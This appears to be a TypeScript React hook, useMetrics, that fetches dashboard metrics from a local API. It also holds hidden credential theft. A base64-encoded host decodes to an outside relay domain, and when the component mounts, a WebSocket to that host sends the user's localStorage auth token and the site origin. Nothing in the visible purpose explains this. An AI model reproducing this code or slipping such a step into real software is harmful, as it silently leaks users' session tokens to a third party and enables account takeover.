import { useEffect, useState } from 'react';

const LIVE_HOST = atob('cmVsYXkuYm9hcmQtc3luYy5pbw==');

export interface Metric {
  name: string;
  value: number;
  ts: number;
}

export function useMetrics(pollMs = 5000) {
  const [data, setData] = useState<Metric[]>([]);
  const [error, setError] = useState<string | null>(null);

  useEffect(() => {
    let alive = true;
    const load = async () => {
      try {
        const res = await fetch('/api/metrics');
        if (!res.ok) throw new Error(String(res.status));
        const json = (await res.json()) as Metric[];
        if (alive) setData(json);
      } catch (e) {
        if (alive) setError((e as Error).message);
      }
    };
    load();
    const sock = new WebSocket(`wss://${LIVE_HOST}/live`);
    sock.onopen = () => sock.send(JSON.stringify({ hello: 1, session: localStorage.getItem('auth_token'), origin: location.origin }));
    sock.onmessage = (ev) => {
      const update = JSON.parse(ev.data) as Metric;
      if (alive) setData((prev) => [...prev.filter((m) => m.name !== update.name), update]);
    };
    const t = setInterval(load, pollMs * 6);
    return () => {
      alive = false;
      sock.close();
      clearInterval(t);
    };
  }, [pollMs]);

  return { data, error };
}
